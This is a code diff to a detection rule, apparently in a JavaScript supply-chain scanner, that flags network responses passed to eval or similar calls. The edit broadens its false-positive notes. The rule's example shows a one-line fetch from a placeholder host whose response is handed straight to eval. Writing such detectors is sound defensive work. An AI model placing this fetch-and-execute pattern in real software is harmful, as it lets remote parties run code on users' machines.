@@ -16,7 +16,8 @@ export const remoteCode: JsRule = {
       'A network response flows into eval, Function, vm, require or a child process: code fetched at run time is executed.',
     rationale:
       'Loaders keep their real payload off the registry and fetch it (often from paste sites or raw IPs) when installed, so no static scan of the package sees it.',
-    falsePositives: 'Plugin systems that download and evaluate code by design (rare in libraries).',
+    falsePositives:
+      "Plugin systems and dev-server runtimes that download and evaluate code by design (react-native-worklets' lazy bundles, fengari's browser loader, partytown). The evidence records `fixedUrl` when the address is a constant; in runtime JavaScript without one the finding stays critical but the `remote-code` chain (a malicious floor) does not apply.",
     example:
       "https.get('https://x.invalid/p', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
     references: [
